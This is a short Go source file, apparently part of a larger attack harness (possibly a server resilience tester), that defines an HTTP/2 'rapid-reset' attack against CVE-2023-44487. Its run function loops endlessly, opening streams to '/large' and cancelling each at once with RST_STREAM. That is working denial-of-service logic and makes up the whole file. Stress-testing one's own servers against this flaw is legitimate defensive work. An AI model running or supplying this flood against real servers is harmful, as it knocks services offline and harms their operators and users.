package main

import (
	"context"

	"golang.org/x/net/http2"
)

// rapidReset asks and takes it back, again and again: the stream ends, and its
// work does not.
var rapidReset = &attack{
	name: "rapid-reset", what: "requests that are reset at once (CVE-2023-44487)",
	run: func(ctx context.Context, e *enemy) error {
		for ctx.Err() == nil {
			id, err := e.get("/large")
			if err != nil {
				return err
			}
			if err := e.fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
				return err
			}
		}
		return nil
	},
}
